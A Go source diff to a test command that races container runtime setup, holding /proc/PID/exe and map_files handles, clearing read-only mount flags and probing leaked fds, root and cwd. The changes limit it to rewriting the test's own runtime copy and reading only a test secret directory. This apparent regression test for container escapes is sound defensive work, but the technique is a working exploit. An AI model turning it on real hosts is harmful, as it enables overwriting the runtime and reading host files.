@@ -47,12 +47,18 @@ type raceState struct {
 	held    map[int]*heldExe // O_PATH fd -> the stage binary it holds
 	heldPid map[int]bool
 	setattr int // mount_setattr(!RDONLY) that succeeded
-	wrote   int
+	wrote   int // writes to the victim
+	// victim is the only file written to (with the bytes read from it):
+	// the test's copy of the runtime. Any other file held is only opened
+	// for writing, which changes nothing, not even its times.
+	victim   [2]uint64
+	writable int // other files opened for writing
+	hostPath string
 	// fd attack
-	fdProbes int             // successful listings of a stage's fds
-	leaks    int             // outside files read through a stage's fd
-	writable int             // outside files opened for writing through a stage's fd
-	printed  map[string]bool // LEAK lines already printed
+	fdProbes   int             // successful listings of a stage's fds
+	leaks      int             // outside files read through a stage's fd
+	fdWritable int             // outside files opened for writing through a stage's fd
+	printed    map[string]bool // LEAK lines already printed
 }
 
 type heldExe struct {
@@ -74,25 +80,33 @@ func (s *raceState) printf(format string, a ...any) {
 // until it has exec'd, since the window after it dropped to the
 // container's capabilities is short.
 //
-// -exe: open /proc/PID/exe with O_PATH; if that is a binary the container
-// can't reach by path, clear MOUNT_ATTR_RDONLY on its mount with
-// mount_setattr (allowed with CAP_SYS_ADMIN for a detached mount), keep the
-// handle, and once nothing executes the binary any more (no ETXTBSY) reopen
-// it for writing through /proc/self/fd and write back the 16 bytes found at
-// offset 0: a proof that leaves the content as it was. Lines: "SAW pid
-// target", "SETATTR pid ok|err", "WROTE pid target", "NOWRITE pid target:
-// error".
+// -exe: open /proc/PID/exe with O_PATH (and the other files that
+// /proc/PID/map_files gives); for a file the container can't reach by
+// path, clear MOUNT_ATTR_RDONLY on its mount with mount_setattr (allowed
+// with CAP_SYS_ADMIN for a detached mount), keep the handle, and once
+// nothing executes the file any more (no ETXTBSY) reopen it for writing
+// through /proc/self/fd. Only the file named by -victim (the test's copy
+// of the runtime) is written to, with the 16 bytes found at its offset 0:
+// a proof that leaves the content as it was. Any other file is only opened
+// for writing, which changes nothing, not even its times. Lines: "SAW pid
+// target", "SETATTR pid ok|err", "WROTE pid target" (the victim),
+// "WRITABLE pid target" (another file), "NOWRITE pid target: error".
 //
 // -fds: open every /proc/PID/fd/N (N > 2: 0-2 are the caller's stdio,
 // passed on by design) of the stage that refers to a file the container
 // can't reach by path, and print what it reads through it: "LEAK pid fd=N
-// target ..." with the names in a directory (and its parent) and the
-// content of small files; "LEAK-WRITABLE pid fd=N target" when such a
-// file could also be opened for writing.
+// target ..." with the names in a directory (and its parent), and the
+// content of the files in the test's secret directory (-hostpath DIR; no
+// other host file is read); "LEAK-WRITABLE pid fd=N target" when such a file
+// could also be opened for writing (nothing is written). It also looks
+// through the stage's /proc/PID/root and /proc/PID/cwd, and for DIR below
+// them: "LEAK pid root|cwd target ...".
 //
 // The last line is "done pids=N stages=S denied=D held=H setattr=A
-// wrote=W fdprobes=F leaks=L writable=X"; stages counts processes caught before their
-// final execve, so a test can tell that the race was run at all.
+// wrote=W fdprobes=F leaks=L writable=X": wrote counts WROTE and WRITABLE
+// lines, writable LEAK-WRITABLE ones; stages counts processes caught
+// before their final execve, so a test can tell that the race was run at
+// all.
 func cmdStageRace(args []string) error {
 	fs := flag.NewFlagSet("stagerace", flag.ContinueOnError)
 	exe := fs.Bool("exe", false, "attack /proc/PID/exe")
@@ -100,6 +114,8 @@ func cmdStageRace(args []string) error {
 	secs := fs.Float64("secs", 3, "how long to watch for stages")
 	grace := fs.Float64("grace", 2, "how long to keep trying to write to held binaries after that")
 	stopOnWrite := fs.Bool("stop-on-write", true, "end once a binary was written to")
+	victim := fs.String("victim", "", "DEV:INO (decimal, as fstat reports them) of the only file the attacker may write to")
+	hostPath := fs.String("hostpath", "", "a host directory to look for through a stage's root and cwd")
 	if err := fs.Parse(args); err != nil {
 		return err
 	}
@@ -107,6 +123,12 @@ func cmdStageRace(args []string) error {
 		self: os.Getpid(), exe: *exe, fds: *fds,
 		cands: map[int]bool{}, done: map[int]bool{}, stages: map[int]bool{},
 		held: map[int]*heldExe{}, heldPid: map[int]bool{}, printed: map[string]bool{},
+		hostPath: *hostPath,
+	}
+	if *victim != "" {
+		if _, err := fmt.Sscanf(*victim, "%d:%d", &s.victim[0], &s.victim[1]); err != nil {
+			return fmt.Errorf("-victim %q: %w", *victim, err)
+		}
 	}
 	// Processes already there (the init of a created container, waiting
 	// for start) are stages too.
@@ -150,7 +172,7 @@ func cmdStageRace(args []string) error {
 		}
 	}
 	s.printf("done pids=%d stages=%d denied=%d held=%d setattr=%d wrote=%d fdprobes=%d leaks=%d writable=%d\n",
-		len(s.cands), len(s.stages), s.denied, len(s.held), s.setattr, s.wrote, s.fdProbes, s.leaks, s.writable)
+		len(s.cands), len(s.stages), s.denied, len(s.held), s.setattr, s.wrote+s.writable, s.fdProbes, s.leaks, s.fdWritable)
 	return nil
 }
 
@@ -263,6 +285,7 @@ func (s *raceState) probe(pid int) bool {
 	s.mu.Unlock()
 	if s.fds {
 		s.probeFds(pid)
+		s.probeRootCwd(pid)
 	}
 	if !s.exe {
 		unix.Close(fd)
@@ -277,8 +300,44 @@ func (s *raceState) probe(pid int) bool {
 	s.heldPid[pid] = true
 	s.mu.Unlock()
 	s.printf("SAW %d %s\n", pid, target)
+	s.holdMapped(pid, fd)
 	s.hold(pid, target, fd)
 	return true
+}
+
+// holdMapped holds the files mapped into a stage other than the one its
+// exe link gives (with CAP_SYS_ADMIN over the host, /proc/PID/map_files
+// opens them): a binary exec'd through a stacking filesystem may be
+// mapped from the file underneath.
+func (s *raceState) holdMapped(pid, exe int) {
+	var ex unix.Stat_t
+	if unix.Fstat(exe, &ex) != nil {
+		return
+	}
+	dir := "/proc/" + strconv.Itoa(pid) + "/map_files"
+	d, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		return
+	}
+	names := readNames(d, 256)
+	unix.Close(d)
+	seen := map[[2]uint64]bool{{ex.Dev, ex.Ino}: true}
+	for _, n := range names {
+		p := dir + "/" + n
+		f, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
+		if err != nil {
+			continue
+		}
+		var st unix.Stat_t
+		target, _ := os.Readlink(p)
+		if unix.Fstat(f, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFREG || seen[[2]uint64{st.Dev, st.Ino}] || reach(f, target) == "inside" {
+			unix.Close(f)
+			continue
+		}
+		seen[[2]uint64{st.Dev, st.Ino}] = true
+		s.printf("SAW %d map_files/%s %s\n", pid, n, target)
+		s.hold(pid, "map_files/"+n+" "+target, f)
+	}
 }
 
 // clearReadonly clears MOUNT_ATTR_RDONLY on the mount of an O_PATH handle,
@@ -342,7 +401,7 @@ func (s *raceState) writeHeld(watchEnd, end time.Time, stopOnWrite bool) {
 			s.tryWriteHeld(fd)
 		}
 		s.mu.Lock()
-		stop := stopOnWrite && s.wrote > 0
+		stop := stopOnWrite && s.wrote+s.writable > 0
 		s.mu.Unlock()
 		if stop {
 			return
@@ -355,7 +414,13 @@ func (s *raceState) tryWriteHeld(fd int) {
 	s.mu.Lock()
 	h := s.held[fd]
 	s.mu.Unlock()
-	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_RDWR|unix.O_CLOEXEC, 0)
+	var st unix.Stat_t
+	isVictim := unix.Fstat(fd, &st) == nil && st.Dev == s.victim[0] && st.Ino == s.victim[1]
+	flags := unix.O_RDWR
+	if !isVictim {
+		flags = unix.O_WRONLY
+	}
+	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), flags|unix.O_CLOEXEC, 0)
 	if err != nil {
 		s.mu.Lock()
 		h.lastErr = "open for writing: " + err.Error()
@@ -363,6 +428,14 @@ func (s *raceState) tryWriteHeld(fd int) {
 		return
 	}
 	defer unix.Close(w)
+	if !isVictim {
+		s.mu.Lock()
+		defer s.mu.Unlock()
+		h.done = true
+		s.writable++
+		s.printf("WRITABLE %d %s (%s): opened for writing, nothing written\n", h.pid, h.target, h.how)
+		return
+	}
 	orig := make([]byte, 16)
 	n, err := unix.Pread(w, orig, 0)
 	if err == nil && n > 0 {
@@ -420,9 +493,13 @@ func (s *raceState) probeFds(pid int) {
 			continue
 		}
 		if typ == unix.S_IFDIR {
-			s.report(pid, n, target, describeDir(f))
+			s.report(pid, n, target, s.describeDir(f, target))
 		} else {
-			s.report(pid, n, target, "content="+readSmall(f))
+			what := fmt.Sprintf("size=%d", st.Size)
+			if s.hostPath != "" && strings.HasPrefix(target, s.hostPath+"/") {
+				what = "content=" + readSmall(f) // the test's own secret
+			}
+			s.report(pid, n, target, what)
 			// A reopen is checked against the file and its mount, not
 			// against how the stage opened it: a read-only fd may give a
 			// writable one (a host cgroup file, say). Opening is proof
@@ -450,6 +527,49 @@ func (s *raceState) report(pid, fd int, target, what string) {
 	s.printf("LEAK %d fd=%d %s %s\n", pid, fd, target, what)
 }
 
+// probeRootCwd looks through a stage's root and working directory: until
+// pivot_root an init stage's root is the host's, and its cwd the bundle.
+func (s *raceState) probeRootCwd(pid int) {
+	var own unix.Stat_t
+	if unix.Stat("/", &own) != nil {
+		return
+	}
+	for _, which := range []string{"root", "cwd"} {
+		p := "/proc/" + strconv.Itoa(pid) + "/" + which
+		f, err := unix.Open(p, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			continue
+		}
+		target, _ := os.Readlink(p)
+		var st unix.Stat_t
+		if unix.Fstat(f, &st) != nil || (which == "root" && st.Dev == own.Dev && st.Ino == own.Ino) ||
+			(which == "cwd" && reach(f, target) == "inside") {
+			unix.Close(f)
+			continue
+		}
+		what := s.describeDir(f, "")
+		if s.hostPath != "" {
+			if d, err := unix.Openat(f, "./"+s.hostPath, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
+				what += " hostpath: " + s.describeDir(d, s.hostPath)
+				unix.Close(d)
+			}
+		}
+		unix.Close(f)
+		s.reportKey(which+" "+strconv.Itoa(pid), fmt.Sprintf("LEAK %d %s %s %s\n", pid, which, target, what))
+	}
+}
+
+func (s *raceState) reportKey(key, line string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if s.printed[key] {
+		return
+	}
+	s.printed[key] = true
+	s.leaks++
+	s.printf("%s", line)
+}
+
 func (s *raceState) reportWritable(pid, fd int, target string) {
 	key := fmt.Sprintf("w %d %d %s", pid, fd, target)
 	s.mu.Lock()
@@ -458,27 +578,30 @@ func (s *raceState) reportWritable(pid, fd int, target string) {
 		return
 	}
 	s.printed[key] = true
-	s.writable++
+	s.fdWritable++
 	s.printf("LEAK-WRITABLE %d fd=%d %s\n", pid, fd, target)
 }
 
-// describeDir lists a directory reached through a stage's fd: its names,
-// the content of its small files, and its parent's names (a leaked
-// directory is a way up to the host's root).
-func describeDir(d int) string {
+// describeDir lists a directory reached through a stage (its names, its
+// parent's names: a leaked directory is a way up to the host's root), and
+// if it is the test's own secret directory, given as -hostpath, the
+// content of its small files. No other host file is read.
+func (s *raceState) describeDir(d int, path string) string {
 	var b strings.Builder
-	names := readNames(d, 50)
+	names := readNames(d, 20)
 	b.WriteString("entries=" + strings.Join(names, ","))
-	for _, n := range names {
-		f, err := unix.Openat(d, n, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0)
-		if err != nil {
-			continue
+	if s.hostPath != "" && path == s.hostPath {
+		for _, n := range names {
+			f, err := unix.Openat(d, n, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0)
+			if err != nil {
+				continue
+			}
+			var st unix.Stat_t
+			if unix.Fstat(f, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG && st.Size <= 4096 {
+				b.WriteString(" " + n + "=" + readSmall(f))
+			}
+			unix.Close(f)
 		}
-		var st unix.Stat_t
-		if unix.Fstat(f, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG && st.Size <= 4096 {
-			b.WriteString(" " + n + "=" + readSmall(f))
-		}
-		unix.Close(f)
 	}
 	if p, err := unix.Openat(d, "..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
 		b.WriteString(" parent=" + strings.Join(readNames(p, 20), ","))
